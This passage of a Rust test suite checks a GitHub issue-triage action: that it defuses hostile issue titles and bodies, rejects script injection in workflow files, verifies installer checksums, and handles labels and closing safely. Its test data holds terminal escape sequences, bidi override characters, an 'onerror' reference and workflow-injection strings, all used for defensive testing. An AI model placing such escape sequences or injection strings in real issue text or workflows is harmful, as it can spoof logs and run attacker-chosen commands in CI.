    let comment = &s.comments[0].2;
    assert!(comment.contains("security"), "{comment}");
    assert!(
        !comment.contains("sekrit-payload-7731") && !comment.contains("onerror"),
        "the comment repeats the vulnerability's details:\n{comment}"
    );
    assert_eq!(s.closed_as, None);
    assert!(!s.labels.contains(&"support".to_string()));
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_titles_of_duplicates_are_defused_in_the_log_and_the_comment() {
    let st = state();
    st.lock().unwrap().search = vec![search_item(
        101,
        "Pinned posts lose their order \u{1b}]0;pwned\u{7} \u{1b}[2J after an edit \u{202e}@maintainer",
        "1. Pin three posts\n2. Edit the second one\n3. Reload: the order is lost",
        "open",
    )];
    let gh = fake_github(33002, st.clone()).await;
    let mut ev = fixture("bug-opened.json");
    ev["issue"]["number"] = json!(33002);
    ev["issue"]["title"] = json!("Pinned posts lose their order after an edit");
    for args in [&["--dry-run"][..], &[]] {
        let ran = Runner::new().run(&gh, "issues", &ev, args).ok();
        for bad in ['\u{1b}', '\u{7}', '\u{202e}'] {
            assert!(
                !ran.stdout.contains(bad),
                "{bad:?} in the log:\n{}",
                ran.stdout
            );
        }
    }
    let s = st.lock().unwrap();
    let comment = &s
        .comments
        .first()
        .expect("a comment listing the duplicate")
        .2;
    assert!(comment.contains("#101"), "{comment}");
    for bad in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(!comment.contains(bad), "{bad:?} in the comment:\n{comment}");
    }
    assert!(
        !comment.contains("@maintainer"),
        "the comment pings:\n{comment}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn refused_labels_are_warnings_not_a_failed_job() {
    let st = state();
    st.lock().unwrap().refuse_labels = true;
    let gh = fake_github(33003, st.clone()).await;
    let ran = Runner::new()
        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
        .ok();
    assert!(
        ran.stdout
            .contains("::warning title=issue-preflight::could not add label(s) `needs info`"),
        "{}",
        ran.stdout
    );
    assert!(ran
        .stdout
        .contains("Resource not accessible by integration"));
    assert_eq!(
        st.lock().unwrap().comments.len(),
        1,
        "the comment still goes"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_issue_is_never_closed_without_the_comment_saying_why() {
    let st = state();
    st.lock().unwrap().refuse_comments = true;
    let gh = fake_github(33001, st.clone()).await;
    let ran = Runner::new()
        .run(
            &gh,
            "issues",
            &fixture("support-opened.json"),
            &["--close-support"],
        )
        .ok();
    assert!(
        ran.stdout
            .contains("could not create the preflight comment"),
        "{}",
        ran.stdout
    );
    assert!(ran.stdout.contains("is not closed"), "{}", ran.stdout);
    let s = st.lock().unwrap();
    assert_eq!(s.closed_as, None);
    assert_eq!(s.labels, ["support"], "labels still go on");
}

#[tokio::test(flavor = "multi_thread")]
async fn maintainers_and_exempt_labels_are_left_alone() {
    let st = state();
    let gh = fake_github(33003, st.clone()).await;
    let mut by_member = fixture("incomplete-opened.json");
    by_member["issue"]["author_association"] = json!("MEMBER");
    let ran = Runner::new().run(&gh, "issues", &by_member, &[]).ok();
    assert!(ran.stdout.contains("left alone"), "{}", ran.stdout);
    assert!(gh.received_requests().await.unwrap().is_empty());

    // Configured to check everyone's issues, but this label exempts it.
    let runner = Runner::new();
    runner.write_config("exempt:\n  associations: []\n  labels: [confirmed]\n");
    let labelled = with_labels(by_member.clone(), &["confirmed".into()]);
    runner.run(&gh, "issues", &labelled, &[]).ok();
    assert!(gh.received_requests().await.unwrap().is_empty());
    // Without the label, the member's issue is checked.
    runner.run(&gh, "issues", &by_member, &[]).ok();
    assert_eq!(st.lock().unwrap().comments.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn label_names_come_from_the_config_and_the_inputs() {
    let st = state();
    let gh = fake_github(33003, st.clone()).await;
    let runner = Runner::new();
    runner.write_config("labels:\n  needs-info: 'status: incomplete'\n");
    runner
        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
        .ok();
    assert_eq!(st.lock().unwrap().labels, ["status: incomplete"]);

    // The `label-needs-info` input wins over the file; an empty input
    // (the default) does not.
    let st = state();
    let gh = fake_github(33003, st.clone()).await;
    runner
        .run_with_env(
            &gh,
            "issues",
            &fixture("incomplete-opened.json"),
            &[],
            &[
                ("PREFLIGHT_LABEL_NEEDS_INFO", "triage: needs info"),
                ("PREFLIGHT_LABEL_SUPPORT", ""),
            ],
        )
        .ok();
    assert_eq!(st.lock().unwrap().labels, ["triage: needs info"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_config_and_broken_event_fail_the_run() {
    let gh = fake_github(33003, state()).await;
    let runner = Runner::new();
    runner.write_config("labels:\n  needs_info: x\n");
    let ran = runner.run(&gh, "issues", &fixture("incomplete-opened.json"), &[]);
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(
        ran.stderr.contains("unknown field `needs_info`"),
        "{}",
        ran.stderr
    );
    assert!(
        ran.stderr.contains(".github/preflight.yml"),
        "{}",
        ran.stderr
    );

    let runner = Runner::new();
    let ran = runner.run(&gh, "issues", &json!({"action": "opened"}), &[]);
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(ran.stderr.contains("event.json"), "{}", ran.stderr);
    assert!(gh.received_requests().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_issue_text_is_defused_in_the_dry_run_log_and_the_comment() {
    let hostile = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}\u{2066}";
    // A bug report whose answers the findings quote: a version that is
    // none, and a section of no field.
    let mut bug = fixture("bug-opened.json");
    let body = bug["issue"]["body"]
        .as_str()
        .unwrap()
        .replace("v4.3.2", &format!("v4.3{hostile}x"))
        + &format!("\n### Extra {hostile}notes\n\nmore {hostile}text\n");
    bug["issue"]["body"] = json!(body);
    bug["issue"]["title"] = json!(format!("Pinned column {hostile}moves"));
    let support = event_like(
        "support-opened.json",
        "opened",
        &format!("Account suspended {hostile}please help"),
        &format!("My account {hostile}was suspended on my server and I cannot log in anymore."),
    );
    for ev in [&bug, &support] {
        for args in [&["--dry-run"][..], &[]] {
            let st = state();
            let gh = fake_github(ev["issue"]["number"].as_u64().unwrap(), st.clone()).await;
            let ran = Runner::new().run(&gh, "issues", ev, args).ok();
            let s = st.lock().unwrap();
            let comment = s.comments.first().map(|c| c.2.clone()).unwrap_or_default();
            for (what, text) in [
                ("log", &ran.stdout),
                ("summary", &ran.summary),
                ("comment", &comment),
            ] {
                for bad in ['\u{1b}', '\u{7}', '\u{202e}', '\u{2066}'] {
                    assert!(
                        !text.contains(bad),
                        "{args:?}: {bad:?} in the {what}:\n{text}"
                    );
                }
            }
            // The outputs are JSON for later steps: data kept as it is,
            // control characters escaped by JSON.
            assert!(
                !ran.outputs.contains(['\u{1b}', '\u{7}']),
                "{}",
                ran.outputs
            );
            if args.is_empty() {
                assert!(!comment.is_empty(), "no comment:\n{}", ran.stdout);
            } else {
                assert!(ran.stdout.contains("dry run: would"), "{}", ran.stdout);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unwritable_step_output_fails_the_run_before_any_write() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let runner = Runner::new();
    let nowhere = runner.dir.path().join("no/such/folder/output");
    let ran = runner.run_with_env(
        &gh,
        "issues",
        &fixture("support-opened.json"),
        &[],
        &[("GITHUB_OUTPUT", nowhere.to_str().unwrap())],
    );
    assert_eq!(ran.code, 2, "{}\n{}", ran.stdout, ran.stderr);
    assert!(
        ran.stderr.contains("no/such/folder/output"),
        "{}",
        ran.stderr
    );
    assert_eq!(writes(&gh).await, Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn an_event_about_another_repository_is_refused() {
    let gh = fake_github(33001, state()).await;
    let ran = Runner::new().run_with_env(
        &gh,
        "issues",
        &fixture("support-opened.json"),
        &[],
        &[("GITHUB_REPOSITORY", "someone/else")],
    );
    assert_eq!(ran.code, 2, "{}\n{}", ran.stdout, ran.stderr);
    assert!(
        ran.stderr.contains("mastodon/mastodon") && ran.stderr.contains("someone/else"),
        "{}",
        ran.stderr
    );
    assert!(gh.received_requests().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn bots_issues_are_left_alone_by_default() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let mut ev = fixture("support-opened.json");
    ev["issue"]["user"] = gh_user("renovate[bot]");
    let ran = Runner::new().run(&gh, "issues", &ev, &[]).ok();
    assert!(ran.stdout.contains("exempt.bots"), "{}", ran.stdout);
    assert!(gh.received_requests().await.unwrap().is_empty());
    let runner = Runner::new();
    runner.write_config("exempt:\n  bots: false\n");
    runner.run(&gh, "issues", &ev, &[]).ok();
    assert_eq!(st.lock().unwrap().comments.len(), 1);
}

// ----- action.yml and the workflows ----------------------------------------------

fn yaml(path: &Path) -> serde_yaml::Value {
    serde_yaml::from_str(&std::fs::read_to_string(path).unwrap())
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn workflow_files() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join(".github/workflows"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yml" || e == "yaml"))
        .collect();
    files.sort();
    files
}

/// Every `run:` script (and `script:` of github-script) in a YAML tree.
fn scripts(v: &serde_yaml::Value, at: &str, out: &mut Vec<(String, String)>) {
    match v {
        serde_yaml::Value::Mapping(m) => {
            for (k, v) in m {
                let key = k.as_str().unwrap_or("?");
                let here = format!("{at}.{key}");
                if matches!(key, "run" | "script") {
                    if let Some(s) = v.as_str() {
                        out.push((here.clone(), s.to_string()));
                    }
                }
                scripts(v, &here, out);
            }
        }
        serde_yaml::Value::Sequence(s) => {
            for (i, v) in s.iter().enumerate() {
                scripts(v, &format!("{at}[{i}]"), out);
            }
        }
        _ => {}
    }
}

/// Interpolating untrusted text into a script lets an issue title run
/// commands: `run:` steps get it through `env:` instead.
fn injection(script: &str) -> Option<&'static str> {
    let squashed: String = script.chars().filter(|c| !c.is_whitespace()).collect();
    [
        "${{github.event",
        "${{inputs.",
        "${{github.head_ref",
        "${{steps.",
    ]
    .into_iter()
    .find(|p| squashed.contains(p))
}

#[test]
fn no_run_step_interpolates_untrusted_text() {
    let mut files = workflow_files();
    files.push(root().join("action.yml"));
    assert!(files.len() >= 3, "{files:?}");
    let mut found = Vec::new();
    for file in &files {
        let mut all = Vec::new();
        scripts(&yaml(file), "", &mut all);
        assert!(!all.is_empty(), "{} has no run steps", file.display());
        for (at, script) in all {
            if let Some(p) = injection(&script) {
                found.push(format!("{}{at}: {p}", file.display()));
            }
        }
    }
    assert!(found.is_empty(), "interpolation in run steps: {found:#?}");
}

#[test]
fn the_injection_check_can_fail() {
    assert_eq!(
        injection("echo \"${{ github.event.issue.title }}\""),
        Some("${{github.event")
    );
    assert_eq!(injection("x=${{inputs.config}}"), Some("${{inputs."));
    assert_eq!(injection("echo \"$TITLE\""), None);
}

#[test]
fn action_yml_is_a_composite_action_with_its_inputs_and_outputs() {
    let a = yaml(&root().join("action.yml"));
    assert_eq!(a["runs"]["using"].as_str(), Some("composite"));
    let inputs = a["inputs"].as_mapping().unwrap();
    for (name, default) in [
        ("github-token", "${{ github.token }}"),
        ("config", ".github/preflight.yml"),
        ("close-support", "false"),
        ("dry-run", "false"),
        ("label-support", ""),
        ("label-duplicate", ""),
        ("label-needs-info", ""),
    ] {
        let input = &inputs[name];
        assert!(
            input["description"].as_str().is_some(),
            "{name} has no description"
        );
        assert_eq!(
            input["default"].as_str(),
            Some(default),
            "default of {name}"
        );
    }
    for name in ["verdict", "duplicates", "findings"] {
        let value = a["outputs"][name]["value"].as_str().unwrap_or("");
        assert_eq!(value, format!("${{{{ steps.check.outputs.{name} }}}}"));
    }
    let steps = a["runs"]["steps"].as_sequence().unwrap();
    for step in steps {
        if step.get("run").is_some() {
            assert_eq!(step["shell"].as_str(), Some("bash"), "{step:?}");
        }
    }
    // Every input reaches the binary, through env.
    let check = steps
        .iter()
        .find(|s| s["id"].as_str() == Some("check"))
        .expect("the check step");
    let env = check["env"].as_mapping().unwrap();
    for (var, input) in [
        ("GITHUB_TOKEN", "github-token"),
        ("PREFLIGHT_CONFIG", "config"),
        ("PREFLIGHT_CLOSE_SUPPORT", "close-support"),
        ("PREFLIGHT_DRY_RUN", "dry-run"),
        ("PREFLIGHT_LABEL_SUPPORT", "label-support"),
        ("PREFLIGHT_LABEL_DUPLICATE", "label-duplicate"),
        ("PREFLIGHT_LABEL_NEEDS_INFO", "label-needs-info"),
    ] {
        assert_eq!(
            env[var].as_str(),
            Some(format!("${{{{ inputs.{input} }}}}").as_str()),
            "{var}"
        );
    }
    assert!(check["run"].as_str().unwrap().contains("action"));
}

#[test]
fn release_builds_every_target_the_installer_asks_for() {
    let release = std::fs::read_to_string(root().join(".github/workflows/release.yml")).unwrap();
    let installer = std::fs::read_to_string(root().join(".github/action/install.sh")).unwrap();
    for target in [
        "x86_64-unknown-linux-musl",
        "aarch64-unknown-linux-musl",
        "x86_64-apple-darwin",
        "aarch64-apple-darwin",
        "x86_64-pc-windows-msvc",
    ] {
        assert!(
            release.contains(&format!("target: {target}")),
            "release lacks {target}"
        );
        assert!(installer.contains(target), "installer lacks {target}");
    }
    assert!(release.contains("SHA256SUMS") && installer.contains("SHA256SUMS"));
}

// ----- the installer --------------------------------------------------------------

#[cfg(unix)]
mod installer {
    use super::*;
    use std::process::Command;

    const TARGET: &str = "x86_64-unknown-linux-musl";

    fn have(tool: &str) -> bool {
        Command::new(tool)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    }

    /// An action checkout whose Cargo.toml points its releases at `base`.
    fn action_dir(dir: &Path, base: &str) -> PathBuf {
        let action = dir.join("action");
        std::fs::create_dir_all(action.join(".github/action")).unwrap();
        std::fs::copy(
            root().join(".github/action/install.sh"),
            action.join(".github/action/install.sh"),
        )
        .unwrap();
        std::fs::write(
            action.join("Cargo.toml"),
            format!(
                "[package]\nname = \"issue-preflight\"\nversion = \"9.8.7\"\nrepository = \"{base}/acme/preflight\"\n\n[dependencies]\nversion = \"1\"\n"
            ),
        )
        .unwrap();
        action
    }

    /// A release asset laid out as .github/release/package.sh packs one
    /// (a folder `preflight-TARGET/`), holding a fake `preflight` that
    /// prints its name.
    fn asset(dir: &Path) -> Vec<u8> {
        let staging = dir.join("staging");
        let folder = format!("preflight-{TARGET}");
        std::fs::create_dir_all(staging.join(&folder).join("completions")).unwrap();
        std::fs::write(
            staging.join(&folder).join("preflight"),
            "#!/bin/sh\necho fake-preflight \"$@\"\n",
        )
        .unwrap();
        std::fs::write(staging.join(&folder).join("README.md"), "# preflight\n").unwrap();
        let tarball = dir.join("asset.tar.gz");
        let ok = Command::new("tar")
            .arg("-czf")
            .arg(&tarball)
            .arg("-C")
            .arg(&staging)
            .arg(&folder)
            .status()
            .unwrap();
        assert!(ok.success());
        std::fs::read(tarball).unwrap()
    }

    fn sha256(path: &Path) -> String {
        let out = Command::new("sha256sum").arg(path).output().unwrap();
        String::from_utf8(out.stdout)
            .unwrap()
            .split_whitespace()
            .next()
            .unwrap()
            .to_string()
    }

    fn script(
        action: &Path,
        home: &Path,
        output: &Path,
        cmd: &str,
        env: &[(String, String)],
    ) -> std::process::Output {
        let mut c = Command::new("bash");
        c.arg(action.join(".github/action/install.sh"))
            .arg(cmd)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", home)
            .env("GITHUB_ACTION_PATH", action)
            .env("GITHUB_OUTPUT", output)
            .env("RUNNER_OS", "Linux")
            .env("RUNNER_ARCH", "X64")
            .env("RUNNER_TEMP", home);
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().unwrap()
    }

    fn outputs(path: &Path) -> Vec<(String, String)> {
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .filter_map(|l| l.split_once('='))
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    /// `locate`, then `install` with locate's outputs as action.yml passes them.
    fn locate_and_install(
        action: &Path,
        home: &Path,
    ) -> (Vec<(String, String)>, std::process::Output) {
        let output = home.join("github_output");
        let located = script(action, home, &output, "locate", &[]);
        assert!(
            located.status.success(),
            "{}",
            String::from_utf8_lossy(&located.stdout)
        );
        let outs = outputs(&output);
        let get = |k: &str| {
            outs.iter()
                .find(|(n, _)| n == k)
                .map(|(_, v)| v.clone())
                .unwrap()
        };
        let env: Vec<(String, String)> = [
            ("PREFLIGHT_VERSION", "version"),
            ("PREFLIGHT_REPOSITORY", "repository"),
            ("PREFLIGHT_TARGET", "target"),
            ("PREFLIGHT_MODE", "mode"),
            ("PREFLIGHT_DIR", "dir"),
            ("PREFLIGHT_BIN", "bin"),
        ]
        .iter()
        .map(|(var, out)| (var.to_string(), get(out)))
        .collect();
        let installed = script(action, home, &output, "install", &env);
        (outs, installed)
    }

    async fn release_server(asset: &[u8], sums: String) -> MockServer {
        let server = MockServer::start().await;
        let base = "/acme/preflight/releases/download/v9.8.7";
        Mock::given(method("GET"))
            .and(path(format!("{base}/preflight-{TARGET}.tar.gz")))
            .respond_with(ResponseTemplate::new(200).set_body_bytes(asset.to_vec()))
            .mount(&server)
            .await;
        Mock::given(method("GET"))
            .and(path(format!("{base}/SHA256SUMS")))
            .respond_with(ResponseTemplate::new(200).set_body_string(sums))
            .mount(&server)
            .await;
        server
    }

    fn tools_present() -> bool {
        let ok = ["bash", "curl", "tar", "sha256sum"].iter().all(|t| have(t));
        if !ok {
            crate::support::skip("bash, curl, tar or sha256sum missing for the installer tests");
        }
        ok
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn installs_the_release_asset_after_checking_its_checksum() {
        if !tools_present() {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let bytes = asset(dir.path());
        let sum = sha256(&dir.path().join("asset.tar.gz"));
        let server = release_server(
            &bytes,
            format!("0000  preflight-other.tar.gz\n{sum}  preflight-{TARGET}.tar.gz\n"),
        )
        .await;
        let action = action_dir(dir.path(), &server.uri());
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        let (outs, installed) = locate_and_install(&action, &home);
        assert!(
            installed.status.success(),
            "{}{}",
            String::from_utf8_lossy(&installed.stdout),
            String::from_utf8_lossy(&installed.stderr)
        );
        assert!(
            outs.contains(&("mode".into(), "release".into())),
            "{outs:?}"
        );
        assert!(
            outs.contains(&("key".into(), format!("issue-preflight-v9.8.7-{TARGET}"))),
            "{outs:?}"
        );
        let bin = outs.iter().find(|(k, _)| k == "bin").unwrap().1.clone();
        let ran = Command::new(&bin).arg("action").output().unwrap();
        assert_eq!(
            String::from_utf8_lossy(&ran.stdout),
            "fake-preflight action\n"
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn refuses_an_asset_whose_checksum_differs() {
        if !tools_present() {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let bytes = asset(dir.path());
        let wrong = "a".repeat(64);
        let server = release_server(&bytes, format!("{wrong}  preflight-{TARGET}.tar.gz\n")).await;
        let action = action_dir(dir.path(), &server.uri());
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        let (outs, installed) = locate_and_install(&action, &home);
        assert!(!installed.status.success());
        let stdout = String::from_utf8_lossy(&installed.stdout);
        assert!(
            stdout.contains("::error") && stdout.contains("refusing to run it"),
            "{stdout}"
        );
        let bin = outs.iter().find(|(k, _)| k == "bin").unwrap().1.clone();
        assert!(
            !Path::new(&bin).exists(),
            "the unchecked binary was installed"
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn without_a_release_asset_it_builds_from_source_or_says_what_is_missing() {
        if !tools_present() {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let server = MockServer::start().await; // every asset is a 404
        let action = action_dir(dir.path(), &server.uri());
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        // PATH has no cargo here: the fallback names what it needs.
        let (_, installed) = locate_and_install(&action, &home);
        assert!(!installed.status.success());
        let stdout = String::from_utf8_lossy(&installed.stdout);
        assert!(
            stdout.contains("building preflight from source"),
            "{stdout}"
        );
        assert!(stdout.contains("needs cargo"), "{stdout}");
    }

    #[test]
    fn unknown_runners_and_local_actions_build_from_source() {
        if !have("bash") {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let action = action_dir(dir.path(), "https://github.invalid");
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        let output = home.join("github_output");
        let located = script(
            &action,
            &home,
            &output,
            "locate",
            &[("RUNNER_ARCH".into(), "ARM".into())],
        );
        assert!(located.status.success());
        assert!(outputs(&output).contains(&("mode".into(), "source".into())));
        std::fs::remove_file(&output).unwrap();
        let ws = vec![(
            "GITHUB_WORKSPACE".to_string(),
            dir.path().display().to_string(),
        )];
        let located = script(&action, &home, &output, "locate", &ws);
        assert!(located.status.success());
        let outs = outputs(&output);
        assert!(outs.contains(&("mode".into(), "source".into())), "{outs:?}");
        assert!(outs
            .iter()
            .any(|(k, v)| k == "key" && v.starts_with("issue-preflight-source-")));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn without_the_sentence_model_nobody_is_sent_away_on_words_alone() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let ran = Runner::unconfigured()
        .run(
            &gh,
            "issues",
            &fixture("support-opened.json"),
            &["--close-support"],
        )
        .ok();
    let s = st.lock().unwrap();
    // Words alone lean towards support here, and say so…
    assert_eq!(ran.output("verdict").as_deref(), Some("support"));
    assert!(
        ran.stdout.contains("judging by words alone"),
        "{}",
        ran.stdout
    );
    // …but are not sure enough to label, tell anyone to leave, or close.
    assert_eq!(s.closed_as, None, "{}", ran.stdout);
    assert!(s.labels.is_empty(), "{:?}", s.labels);
    assert!(s.comments.is_empty(), "{:?}", s.comments);
}
